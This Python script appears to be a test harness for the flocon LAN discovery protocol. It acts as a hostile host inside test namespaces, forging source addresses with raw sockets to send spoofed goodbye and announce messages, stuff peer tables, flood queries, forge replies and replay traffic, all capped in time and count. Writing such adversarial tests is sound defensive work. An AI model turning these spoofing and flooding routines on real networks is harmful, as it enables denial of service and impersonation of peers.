#!/usr/bin/env python3
"""attacker.py - a hostile host on a namespace LAN, for tests/lan_attack.sh. It speaks
flocon's discovery protocol (docs/PROTOCOL.md) without any group key and forges source
addresses with raw sockets. Every mode is bounded in time and in count.

  attacker.py run IFACE VICTIM TARGET SECS MODES   MODES: comma-separated of
      goodbye   GOODBYE in VICTIM's name (its instance and seq, read from its own
                announcements), from VICTIM's address, 20/s to the groups
      announce  ANNOUNCE of a new instance from VICTIM's address, 10/s
      stuff     480 forged peers from 10.77.1.1.. (the LAN is a /16), each every 2 s
      qflood    QUERYs to TARGET from addresses that do not exist, 5000/s
      answers   a forged DON'T HAVE in VICTIM's name for every QUERY to VICTIM it sees
                (the switch floods unicast and IFACE is promiscuous: it sees queries)
      replay    every datagram VICTIM sends, sent again 3 times from VICTIM's address
  attacker.py http ADDR PORT PATH   GET without Flocon-Auth; prints the status line
Prints "sent MODE=N ..." at the end.
"""
import os, random, select, socket, struct, sys, time

PORT = 19432
GROUP = "239.255.194.32"
MAX_SENDS = 200_000  # whatever the rates, no run sends more than this


def ip_checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


class Raw:
    """IPv4/UDP with any source address (IP_HDRINCL)."""

    def __init__(self):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.s.setblocking(False)
        self.sent = 0
        self.dropped = 0
        self.error = None

    def send(self, src, sport, dst, dport, payload, ttl=1):
        if self.sent >= MAX_SENDS:
            return
        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, ttl, 17, 0,
                          socket.inet_aton(src), socket.inet_aton(dst))
        hdr = hdr[:10] + struct.pack("!H", ip_checksum(hdr)) + hdr[12:]
        try:
            self.s.sendto(hdr + udp, (dst, 0))
            self.sent += 1
        except OSError as e:
            self.dropped += 1
            self.error = self.error or "%s to %s" % (e, dst)


def header(ty, instance, seq, flags=0):
    return b"FLCN" + bytes([1, ty]) + struct.pack("!HQI", flags, instance, seq)


def announce(instance, seq, name):
    n = name.encode()[:64]
    return header(1, instance, seq) + struct.pack("!HH", PORT, 0) + bytes([len(n)]) + n + \
        bytes([4]) + b"arch" + bytes([1, 6]) + b"x86_64"


def dont_have(instance, seq, qid):
    return header(4, instance, seq) + struct.pack("!IBBQ", qid, 0, 0, 0) + b"\0" * 32 + b"\0\0"


def query(instance, seq, qid, name):
    n = name.encode()
    q = header(3, instance, seq) + struct.pack("!IBQ", qid, 0, 0) + b"\0" * 32 + bytes([len(n)]) + n
    return q + b"\0" * max(0, 68 - len(q))


def sniffer(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((iface, 0))
    s.setblocking(False)
    return s


def parse(frame):
    """(src, sport, dst, dport, payload) of an IPv4/UDP frame, else None."""
    ip = frame[14:]
    if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17:
        return None
    ihl = (ip[0] & 15) * 4
    src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
    sport, dport, ulen = struct.unpack("!HHH", ip[ihl:ihl + 6])
    return src, sport, dst, dport, ip[ihl + 8:ihl + ulen]


def run(iface, victim, target, secs, modes):
    raw = Raw()
    sn = sniffer(iface)
    # join the group so the victim's announcements reach us (the switch floods anyway)
    g = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    g.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton(GROUP) + socket.inet_aton("0.0.0.0") + struct.pack("@i", socket.if_nametoindex(iface)))
    counts = {m: 0 for m in modes}
    v_instance, v_seq = None, 0
    t0 = time.monotonic()
    end = t0 + secs
    due = {m: t0 for m in modes}
    rate = {"goodbye": 20, "announce": 10, "stuff": 240, "qflood": 5000}
    stuff_i = 0
    rnd = random.Random(os.getpid())
    while time.monotonic() < end:
        r, _, _ = select.select([sn], [], [], 0.001)
        # read what the wire carries: the victim's datagrams and the queries sent to it
        for _ in range(256):
            try:
                f = sn.recv(2048)
            except BlockingIOError:
                break
            p = parse(f)
            if not p:
                continue
            src, sport, dst, dport, pl = p
            if len(pl) < 20 or pl[:4] != b"FLCN":
                continue
            ty = pl[5]
            inst, seq = struct.unpack("!QI", pl[8:20])
            if src == victim and sport == PORT:
                if ty == 1:
                    v_instance = inst
                    v_seq = max(v_seq, seq)
                if "replay" in modes and counts["replay"] < MAX_SENDS // 4:
                    for _ in range(3):
                        raw.send(victim, PORT, dst, dport, pl)
                        counts["replay"] += 1
            if "answers" in modes and dst == victim and dport == PORT and ty == 3 and v_instance:
                qid = struct.unpack("!I", pl[20:24])[0]
                raw.send(victim, PORT, src, sport, dont_have(v_instance, v_seq + 1, qid))
                counts["answers"] += 1
        now = time.monotonic()
        for m in modes:
            if m not in rate:
                continue
            n = 0
            while due[m] <= now and n < 1000:
                due[m] += 1.0 / rate[m]
                n += 1
                if m == "goodbye" and v_instance:
                    v_seq += 1
                    raw.send(victim, PORT, GROUP, PORT, header(2, v_instance, v_seq))
                    counts[m] += 1
                elif m == "announce":
                    raw.send(victim, PORT, GROUP, PORT,
                             announce(rnd.getrandbits(64) | 1, 1, "evil"))
                    counts[m] += 1
                elif m == "stuff":
                    i = stuff_i % 480
                    stuff_i += 1
                    src = "10.77.%d.%d" % (1 + i // 250, 1 + i % 250)
                    raw.send(src, PORT, GROUP, PORT, announce(0x5EED0000 + i, stuff_i, "stuff%d" % i))
                    counts[m] += 1
                elif m == "qflood":
                    src = "10.77.%d.%d" % (rnd.randint(100, 200), rnd.randint(1, 254))
                    raw.send(src, rnd.randint(1024, 65535), target, PORT,
                             query(rnd.getrandbits(63) | 1, 1, rnd.getrandbits(32), "x-1-1-any.pkg.tar.zst"))
                    counts[m] += 1
    print("sent " + " ".join("%s=%d" % kv for kv in counts.items()) +
          " raw_dropped=%d victim_instance=%s%s" % (raw.dropped, "%016x" % v_instance if v_instance else "-",
                                                   " (first error: %s)" % raw.error if raw.error else ""),
          flush=True)


def http(addr, port, path):
    try:
        c = socket.create_connection((addr, int(port)), timeout=5)
        c.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % path).encode())
        data = b""
        while True:
            d = c.recv(65536)
            if not d:
                break
            data += d
        print(data.split(b"\r\n", 1)[0].decode(errors="replace"), len(data))
    except OSError as e:
        print("error", e)


if __name__ == "__main__":
    if sys.argv[1] == "run":
        run(sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]), sys.argv[6].split(","))
    elif sys.argv[1] == "http":
        http(*sys.argv[2:5])
    else:
        sys.exit(__doc__)
